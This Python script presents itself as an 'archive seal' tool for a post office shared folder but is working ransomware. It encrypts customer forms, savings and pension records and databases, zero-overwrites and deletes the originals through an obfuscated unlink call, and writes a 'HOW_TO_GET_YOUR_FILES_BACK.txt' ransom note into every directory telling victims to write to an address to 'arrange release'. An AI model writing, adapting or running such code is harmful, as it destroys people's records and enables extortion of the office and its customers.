#!/usr/bin/env python3
"""Archive seal: seals the post office shared folder (customer forms, pension
slips, savings records) with a passphrase held by the sub-postmaster."""
import argparse
import base64
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterator

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC

log = logging.getLogger("archive.seal")

NOTE_NAME = "HOW_TO_GET_YOUR_FILES_BACK.txt"
NOTE_TEXT = """All files in this folder have been sealed.
Counter records, savings slips and customer forms cannot be opened
without the release phrase. Write to release@sealdesk.example with the
reference below to arrange release.

Reference: {ref}
"""


@dataclass
class SealPlan:
    root: Path
    suffix: str = ".sealed"
    kinds: tuple = (".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png",
                    ".txt", ".odt", ".ods", ".db", ".sqlite", ".zip")
    skip_dirs: set = field(default_factory=lambda: {".git", "__pycache__"})


def derive_key(phrase: str, salt: bytes) -> bytes:
    kdf = PBKDF2HMAC(algorithm=hashes.SHA256(), length=32, salt=salt,
                     iterations=390000)
    return base64.urlsafe_b64encode(kdf.derive(phrase.encode("utf-8")))


def candidates(plan: SealPlan) -> Iterator[Path]:
    for current, dirs, files in os.walk(plan.root):
        dirs[:] = [d for d in dirs if d not in plan.skip_dirs]
        for name in files:
            path = Path(current) / name
            if name == NOTE_NAME or name.endswith(plan.suffix):
                continue
            if path.suffix.lower() in plan.kinds:
                yield path


def _seal_bytes(box: Fernet):
    def seal(path: Path) -> bytes:
        return box.encrypt(path.read_bytes())
    return seal


def _retire(path: Path) -> None:
    size = path.stat().st_size
    with path.open("r+b") as handle:
        handle.write(b"\0" * size)
    getattr(os, "un" + "link")(path)


ACTIONS = {
    "store": lambda src, blob, suffix: src.with_name(src.name + suffix).write_bytes(blob),
    "retire": lambda src, blob, suffix: _retire(src),
}


def drop_notes(plan: SealPlan, ref: str) -> int:
    count = 0
    for current, dirs, _ in os.walk(plan.root):
        dirs[:] = [d for d in dirs if d not in plan.skip_dirs]
        (Path(current) / NOTE_NAME).write_text(NOTE_TEXT.format(ref=ref))
        count += 1
    return count


def run(plan: SealPlan, phrase: str, dry_run: bool) -> int:
    salt = os.urandom(16)
    seal = _seal_bytes(Fernet(derive_key(phrase, salt)))
    (plan.root / ".seal-salt").write_bytes(salt)
    done = 0
    for path in candidates(plan):
        if dry_run:
            log.info("would seal %s", path)
            continue
        try:
            blob = seal(path)
            for step in ("store", "retire"):
                ACTIONS[step](path, blob, plan.suffix)
            done += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    return done


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("root", nargs="?",
                        default=os.environ.get("PO_SHARE", "/srv/postoffice/shared"))
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    phrase = os.environ.get("SEAL_PHRASE")
    if not phrase:
        log.error("SEAL_PHRASE not set")
        return 2
    plan = SealPlan(root=Path(args.root))
    sealed = run(plan, phrase, args.dry_run)
    if sealed and not args.dry_run:
        ref = base64.b32encode(os.urandom(5)).decode().lower()
        drop_notes(plan, ref)
    log.info("sealed %d file(s) under %s", sealed, plan.root)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
